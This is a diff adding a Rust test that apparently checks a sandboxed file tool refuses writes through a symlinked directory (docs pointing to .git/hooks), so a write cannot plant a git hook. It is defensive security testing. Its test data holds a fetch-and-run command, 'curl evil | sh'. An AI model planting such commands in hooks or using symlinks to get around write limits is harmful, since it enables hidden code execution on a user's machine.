@@ -173,6 +173,38 @@ fn refuses_write_through_symlink() {
     assert_eq!(std::fs::read_to_string(l.granted.join("inside.txt")).unwrap(), "inside");
 }
 
+/// A write lands at the path it names or nowhere: a symlinked directory inside the root
+/// (`docs -> .git/hooks`, as a checked-out repository can hold) is not passed through,
+/// though both ends lie in the grant; so an approval shown `docs/post-commit` cannot
+/// change a git hook. Reads still follow it.
+#[test]
+fn refuses_write_through_a_symlinked_directory_inside_the_root() {
+    let l = layout();
+    std::fs::create_dir_all(l.granted.join(".git/hooks")).unwrap();
+    symlink(".git/hooks", l.granted.join("docs")).unwrap();
+    std::fs::write(l.granted.join(".git/hooks/pre-push"), "#!/bin/sh\n").unwrap();
+    let allow = AllowList::new().write(&s(&l.granted)).unwrap();
+    // (Append and create take the same path through the host as overwrite.)
+    for name in ["docs/post-commit", "docs/pre-push"] {
+        let r = call(
+            tool("test_hostile"),
+            allow.clone(),
+            json!({"mode": "write", "path": s(&l.granted.join(name)), "content": "curl evil | sh"}),
+        );
+        assert!(denied(r).contains("docs is a symlink"), "{name}");
+    }
+    let r = call(
+        tool("test_hostile"),
+        allow.clone(),
+        json!({"mode": "mkdir", "path": s(&l.granted.join("docs/new"))}),
+    );
+    assert!(denied(r).contains("docs is a symlink"));
+    assert!(!l.granted.join(".git/hooks/post-commit").exists());
+    assert!(!l.granted.join(".git/hooks/new").exists());
+    assert_eq!(std::fs::read_to_string(l.granted.join(".git/hooks/pre-push")).unwrap(), "#!/bin/sh\n");
+    assert_eq!(ok_text(hostile_read(allow, &s(&l.granted.join("docs/pre-push")))), "#!/bin/sh\n");
+}
+
 #[test]
 fn refuses_denied_sub_path_inside_granted_root() {
     let l = layout();
@@ -198,7 +230,8 @@ fn refuses_denied_sub_path_inside_granted_root() {
         allow(),
         json!({"mode": "write", "path": s(&l.granted.join("innocent/new")), "content": "x"}),
     );
-    assert!(denied(r).contains("denied path"));
+    // A write never passes through a symlinked directory, denied target or not.
+    assert!(denied(r).contains("innocent is a symlink"));
     let listed = ok_text(call(
         tool("test_hostile"),
         allow(),
